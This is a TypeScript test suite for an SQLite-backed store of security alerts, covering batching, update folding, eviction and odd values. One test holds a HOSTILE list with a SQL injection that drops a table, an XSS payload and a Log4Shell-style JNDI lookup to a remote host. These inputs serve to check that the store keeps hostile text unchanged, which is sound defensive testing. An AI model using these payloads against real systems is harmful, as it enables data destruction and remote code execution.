// SPDX-License-Identifier: BSD-3-Clause
import { expect, test } from "bun:test";
import { array, assert, constantFrom, integer, property, record } from "fast-check";
import type { Alert } from "../../core/alert.ts";
import { AlertStore, type AlertStoreCounts } from "./alert-store.ts";
import { alertOf, MONDAY, TestFolder } from "./testing/alerts.ts";

/** Every alert received is accounted for once. */
const accounted = (counts: AlertStoreCounts): number =>
  counts.folded + counts.committed + counts.rejected + counts.dropped + counts.queued;

test("AlertStore gives an alert back as it was put", () => {
  using store = new AlertStore(":memory:");
  const alert = alertOf({ evidence: [{ SRC_IP: "198.51.100.7", BYTES: 60 }], baseline: 3.5 });
  store.put(alert);
  expect(store.get(alert.id)).toBeUndefined();
  expect(store.flush()).toBeTrue();
  const { openedAt, updatedAt, ...same } = store.get(alert.id)!;
  expect(same).toEqual(alert);
  expect([openedAt, updatedAt]).toEqual([alert.detectTime, alert.detectTime]);
  expect(store.get("no such id")).toBeUndefined();
});

test("AlertStore commits by itself soon after an alert, and at once when a group is full", async () => {
  using store = new AlertStore(":memory:", { commitEveryMs: 1, batchMax: 3 });
  store.put(alertOf());
  expect(store.counts()).toMatchObject({ queued: 1, commits: 0 });
  while (store.counts().commits === 0) await Bun.sleep(1);
  for (let i = 0; i < 3; i++) store.put(alertOf());
  expect(store.counts()).toMatchObject({ queued: 0, commits: 2, committed: 4, total: 4 });
});

test.each(["in one commit", "in a commit each"])(
  "AlertStore folds updates %s into their event",
  (how) => {
    using store = new AlertStore(":memory:");
    const first = alertOf({ detectTime: MONDAY, firstTime: MONDAY - 5, lastTime: MONDAY });
    const put = (alert: Alert): void => {
      store.put(alert);
      if (how === "in a commit each") store.flush();
    };
    put(first);
    put({
      ...first,
      update: 2,
      detectTime: MONDAY + 9,
      lastTime: MONDAY + 9,
      observed: 90,
      severity: 8,
    });
    // A late one widens the times, and brings no older word back.
    put({ ...first, update: 1, detectTime: MONDAY + 4, firstTime: MONDAY - 7, observed: 70 });
    store.flush();
    expect(store.page().items).toEqual([
      {
        ...first,
        update: 2,
        detectTime: MONDAY + 9,
        openedAt: MONDAY,
        updatedAt: MONDAY + 9,
        firstTime: MONDAY - 7,
        lastTime: MONDAY + 9,
        observed: 90,
        severity: 8,
      },
    ]);
    expect(store.counts().stored).toEqual([{ detector: "vportscan", severity: 8, events: 1 }]);
    expect(accounted(store.counts())).toBe(3);
  },
);

test("AlertStore lets the oldest events leave past its bound, and counts them", () => {
  using store = new AlertStore(":memory:", { alertsMax: 5, batchMax: 4 });
  const alerts = Array.from({ length: 12 }, (_, i) =>
    alertOf({ detectTime: MONDAY + ((i * 5) % 12), detector: i % 2 ? "a" : "b" }),
  );
  for (const alert of alerts) store.put(alert);
  store.flush();
  const times = store.page().items.map(({ openedAt }) => openedAt - MONDAY);
  expect(times).toEqual([11, 10, 9, 8, 7]);
  const { total, evicted, stored } = store.counts();
  expect({ total, evicted }).toEqual({ total: 5, evicted: 7 });
  expect(stored.reduce((sum, { events }) => sum + events, 0)).toBe(5);
});

test("AlertStore counts stored events as its table does, whatever happens", () => {
  const change = record({
    event: integer({ min: 0, max: 11 }),
    update: integer({ min: 0, max: 3 }),
    severity: integer({ min: 0, max: 3 }),
    detector: constantFrom("a", "b"),
    detectTime: integer({ min: 0, max: 9 }),
  });
  assert(
    property(array(change, { maxLength: 60 }), (changes) => {
      using store = new AlertStore(":memory:", { alertsMax: 6, batchMax: 4 });
      for (const { event, ...rest } of changes) store.put(alertOf({ id: `${event}`, ...rest }));
      store.flush();
      const { items } = store.page();
      const expected = new Map<string, number>();
      for (const { detector, severity } of items) {
        const key = `${detector} ${severity}`;
        expected.set(key, (expected.get(key) ?? 0) + 1);
      }
      const counts = store.counts();
      const counted = counts.stored.map((row) => [`${row.detector} ${row.severity}`, row.events]);
      expect(Object.fromEntries(counted)).toEqual(Object.fromEntries(expected));
      expect(counts.total).toBe(items.length);
      expect(accounted(counts)).toBe(changes.length);
    }),
    { seed: 7, numRuns: 60 },
  );
});

test("AlertStore rejects what the schema refuses without holding up the others", () => {
  using store = new AlertStore(":memory:");
  store.put(alertOf());
  store.put(alertOf({ category: undefined as unknown as string }));
  store.put(alertOf({ category: {} as unknown as string }));
  store.put(alertOf());
  expect(store.flush()).toBeTrue();
  expect(store.counts()).toMatchObject({ committed: 2, rejected: 2, total: 2 });
  expect(store.health()).toEqual([]);
});

test("AlertStore keeps evidence that JSON has no word for, and times that are no numbers", () => {
  using store = new AlertStore(":memory:");
  const evidence = [{ RAW: 2n ** 64n - 1n, DATA: Uint8Array.of(0, 255) }];
  const odd = alertOf({ evidence, detectTime: Number.NaN, firstTime: -0.5, lastTime: 1.5 });
  store.put(odd);
  store.flush();
  expect(store.get(odd.id)).toMatchObject({
    evidence: [{ RAW: "18446744073709551615", DATA: "00ff" }],
    openedAt: 0,
    firstTime: 0,
    lastTime: 1,
  });
});

const HOSTILE = [
  `'); DROP TABLE event; --`,
  `<script>alert(1)</script>"><img onerror=x>`,
  "\u0024{jndi:ldap://192.0.2.1/a}",
  "a\0b\r\nc\u001b[2J\u202e",
  "\ud800 lone",
  "x".repeat(65_536),
];

test("AlertStore gives hostile text back as it came", () => {
  using store = new AlertStore(":memory:");
  for (const text of HOSTILE) {
    const alert = alertOf({ reason: text, category: text, source: { ip: text } });
    store.put(alert);
    store.flush();
    // A lone surrogate cannot be UTF-8; in JSON it is escaped, so it too comes back.
    expect(store.get(alert.id)).toMatchObject({ reason: text, category: text });
  }
  expect(store.page({ category: HOSTILE[0]! }).items).toHaveLength(1);
  expect(store.counts().total).toBe(HOSTILE.length);
});

test("AlertStore forgets nothing when closed, and ignores what comes after", () => {
  using folder = new TestFolder();
  const alert = alertOf();
  const store = new AlertStore(folder.file("a.sqlite"));
  store.put(alert);
  store.close();
  store.close();
  store.put(alertOf());
  expect(store.flush()).toBeTrue();
  using again = new AlertStore(folder.file("a.sqlite"));
  expect(again.page().items).toMatchObject([{ id: alert.id }]);
  expect(again.counts().total).toBe(1);
});
